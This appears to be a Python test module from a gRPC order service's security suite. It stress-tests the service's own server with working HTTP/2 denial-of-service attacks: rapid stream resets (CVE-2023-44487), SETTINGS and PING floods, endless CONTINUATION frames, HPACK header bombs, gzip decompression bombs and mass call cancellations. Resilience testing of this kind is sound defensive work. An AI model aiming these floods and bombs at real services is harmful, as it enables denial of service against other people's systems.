"""Attacks with HTTP/2 streams: floods of frames, unread streams, cancelled calls."""

import asyncio
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Any

import grpc
from google.protobuf.message import Message
from grpc_health.v1 import health_pb2

from tests.attack.peers import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    ORDERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    STREAMS_PER_CONNECTION,
    WINDOW_UPDATE,
    call_status,
    endings,
    frame,
    header_block,
    literal,
    open_http2,
    open_stalled_clients,
    send_batches,
)
from tests.attack.registry import Kind, Responses, Target, attack
from tests.support.builders.requests import create_order
from tests.support.clients.stalled_client import HEALTH_WATCH, StalledClient
from tests.support.processes.processes import FULFILLMENT_HEALTH
from wms.orders.v1 import orders_pb2

REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
_SUBSCRIPTION = orders_pb2.WatchOrdersRequest(position=0)


def _open_streams(
    clients: list[StalledClient], count: int, method: str, *requests: Message | bytes, more: bool = False
) -> None:
    """Open streams, on each connection as many as a server has to allow."""
    for number in range(count):
        client = clients[number // STREAMS_PER_CONNECTION]
        if not client.is_closed:
            client.call(method, *requests, is_unfinished=more)


def _connections_for(streams: int) -> int:
    return -(-streams // STREAMS_PER_CONNECTION)


@attack(Kind.STREAMS, "streams", long=(1_000, 20), short=(200, 1))
async def watch_health_unread(target: Target, count: int, hold_seconds: float) -> Responses:
    """Watch the health of server and worker with a closed window."""
    watched = ((target.address, ""), (target.worker_address, FULFILLMENT_HEALTH))
    responses: Responses = Counter()
    for address, service in watched:
        async with open_stalled_clients(address, _connections_for(count)) as clients:
            _open_streams(clients, count, HEALTH_WATCH, health_pb2.HealthCheckRequest(service=service))
            await asyncio.sleep(hold_seconds)
            responses += endings(clients)
    return responses


@attack(Kind.STREAMS, "streams", long=(7_000, 10), short=(700, 1))
async def open_health_and_reflection_streams(target: Target, count: int, hold_seconds: float) -> Responses:
    """Open five health watches for every two reflection streams that send nothing."""
    watches, reflections = count * 5 // 7, count * 2 // 7
    async with (
        open_stalled_clients(target.address, _connections_for(watches), 65_535) as watchers,
        open_stalled_clients(target.address, _connections_for(reflections), 65_535) as readers,
    ):
        _open_streams(watchers, watches, HEALTH_WATCH, health_pb2.HealthCheckRequest())
        _open_streams(readers, reflections, REFLECTION, more=True)
        await asyncio.sleep(hold_seconds)
        return endings([*watchers, *readers])


@attack(Kind.STREAMS, "streams", long=(1_000, 35), short=(200, 1))
async def watch_orders_unread(target: Target, count: int, hold_seconds: float) -> Responses:
    """Subscribe from the first event on with a closed window, while orders are created."""
    async with (
        open_stalled_clients(target.address, _connections_for(count)) as clients,
        grpc.aio.insecure_channel(target.address) as channel,
    ):
        _open_streams(clients, count, f"{ORDERS}/WatchOrders", _SUBSCRIPTION)
        request = create_order().SerializeToString()
        for _ in range(max(1, int(hold_seconds / 0.1))):
            await call_status(channel, f"{ORDERS}/CreateOrder", request, 10)
            await asyncio.sleep(0.1)
        return endings(clients)


@attack(Kind.STREAMS, "streams", long=(200, 0), short=(60, 0))
async def disconnect_during_writes(target: Target, count: int, hold_seconds: float) -> Responses:
    """Start subscriptions and lists, and break the connection after their response has begun."""
    for _ in range(0, count, 20):
        async with open_stalled_clients(target.address, 2, window_bytes=20) as clients:
            for client in clients:
                for _ in range(5):
                    client.call(f"{ORDERS}/WatchOrders", _SUBSCRIPTION)
                    client.call(f"{ORDERS}/ListOrders", orders_pb2.ListOrdersRequest())
            await asyncio.sleep(0.1 + hold_seconds)
            for client in clients:
                client.abort_connection()
    return Counter({"left": count})


@attack(Kind.STREAMS, "resets", long=(320_000, 0), short=(10_000, 0))
async def reset_streams_rapidly(target: Target, count: int, hold_seconds: float) -> Responses:
    """Cancel each call with the frame after the one that opens it (CVE-2023-44487)."""
    block = header_block(f"{ORDERS}/GetOrder")
    cancel = (8).to_bytes(4, "big")

    def frames() -> Iterator[bytes]:
        for number in range(count // 6):
            stream = 2 * number + 1
            yield frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)

    async with open_http2(target.grpc_port, 6) as peers:
        counts = await asyncio.gather(*(send_batches(peer, frames()) for peer in peers))
        await asyncio.sleep(hold_seconds)
        return sum(counts, Counter())


async def _flood(target: Target, count: int, make_frame: Callable[[int], bytes]) -> Responses:
    """Send this many frames on four connections, each with an open call."""
    opening = frame(HEADERS, END_HEADERS, 1, header_block(f"{ORDERS}/GetOrder"))
    async with open_http2(target.grpc_port, 4) as peers:
        for peer in peers:
            await peer.send(opening)
        flood = (send_batches(peer, (make_frame(number) for number in range(count // 4))) for peer in peers)
        return sum(await asyncio.gather(*flood), Counter())


@attack(Kind.STREAMS, "frames", long=(1_000_000, 0), short=(200_000, 0))
async def flood_with_settings(target: Target, count: int, hold_seconds: float) -> Responses:
    """Send settings frames, which the server has to acknowledge (CVE-2019-9515)."""
    return await _flood(
        target, count, lambda number: frame(SETTINGS, 0, 0, b"\0\3" + number.to_bytes(4, "big"))
    )


@attack(Kind.STREAMS, "frames", long=(1_000_000, 0), short=(200_000, 0))
async def flood_with_pings(target: Target, count: int, hold_seconds: float) -> Responses:
    """Send pings, which the server has to answer (CVE-2019-9512)."""
    return await _flood(target, count, lambda number: frame(PING, 0, 0, number.to_bytes(8, "big")))


@attack(Kind.STREAMS, "frames", long=(1_000_000, 0), short=(200_000, 0))
async def flood_with_small_frames(target: Target, count: int, hold_seconds: float) -> Responses:
    """Send priorities, one-byte window updates, empty data and unexpected acknowledgements.

    The attacks are CVE-2019-9513 and CVE-2019-9518.
    """
    kinds = (
        frame(PRIORITY, 0, 1, (3).to_bytes(4, "big") + b"\1"),
        frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")),
        frame(DATA, 0, 1),
        frame(SETTINGS, ACK, 0),
    )
    return await _flood(target, count, lambda number: kinds[number % len(kinds)])


@attack(Kind.STREAMS, "MiB", long=(64, 0), short=(8, 0))
async def continue_headers_without_end(target: Target, count: int, hold_seconds: float) -> Responses:
    """Send an endless header block in CONTINUATION frames (CVE-2024-27316)."""
    piece = literal(b"x-filling", b"x" * 16_000)
    opening = frame(HEADERS, 0, 1, header_block(f"{ORDERS}/GetOrder"))
    async with open_http2(target.grpc_port, 2) as peers:
        for peer in peers:
            await peer.send(opening)
        frames = [frame(CONTINUATION, 0, 1, piece)] * (count * 64 // len(peers))
        counts = await asyncio.gather(*(send_batches(peer, frames, batch=8) for peer in peers))
        return sum(counts, Counter())


@attack(Kind.STREAMS, "references", long=(1_900_000, 0), short=(1_900_000, 0))
async def send_header_bombs(target: Target, count: int, hold_seconds: float) -> Responses:
    """Refer to a 4 kB header of the server's table with one byte (HPACK bomb, CVE-2016-6581).

    The server does not withstand ten times as many per second, and no option of gRPC limits them
    (docs/guides/operations.md).
    """
    stored = literal(b"x-bomb", b"x" * 3_900, indexed=True)
    # Index 62 is the newest entry of the table.
    bomb = header_block(f"{ORDERS}/GetOrder") + b"\xbe" * 15_000
    async with open_http2(target.grpc_port, 4) as peers:
        for peer in peers:
            block = header_block(f"{ORDERS}/GetOrder") + stored
            await peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
        frames_per_peer = count // 15_000 // len(peers) + 1
        bombs = [
            frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 3, bomb)
            for number in range(frames_per_peer)
        ]
        counts = await asyncio.gather(*(send_batches(peer, bombs, batch=2) for peer in peers))
        return sum(counts, Counter())


@attack(Kind.STREAMS, "MiB", long=(512, 1), short=(64, 0.5))
async def send_gzip_bombs(target: Target, count: int, hold_seconds: float) -> Responses:
    """Send three messages at once, each of which unpacks to this many MiB of zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = b"\0" * 1024 * 1024
    packed = b"".join(packer.compress(zeros) for _ in range(count)) + packer.flush()
    async with open_stalled_clients(target.address, 3, 65_535) as clients:
        streams = [
            client.call(f"{ORDERS}/CreateOrder", is_unfinished=True, encoding="gzip") for client in clients
        ]
        sends = (
            client.upload(stream, len(packed), packed, is_compressed=True)
            for client, stream in zip(clients, streams, strict=True)
        )
        with suppress(TimeoutError):
            async with asyncio.timeout(20):
                await asyncio.gather(*sends)
        await asyncio.sleep(hold_seconds)
        return endings(clients)


@attack(Kind.STREAMS, "calls", long=(100_000, 0), short=(2_000, 0))
async def cancel_calls(target: Target, count: int, hold_seconds: float) -> Responses:
    """Create orders whose caller cancels at once or shortly after."""
    request = create_order().SerializeToString()
    async with grpc.aio.insecure_channel(target.address) as channel:
        create: Any = channel.unary_unary(f"{ORDERS}/CreateOrder")
        for number in range(0, count, 100):
            calls = [create(request) for _ in range(100)]
            await asyncio.sleep(0.001 * (number // 100 % 5))
            for call in calls:
                call.cancel()
            await asyncio.sleep(hold_seconds)
    return Counter({"cancelled": count})
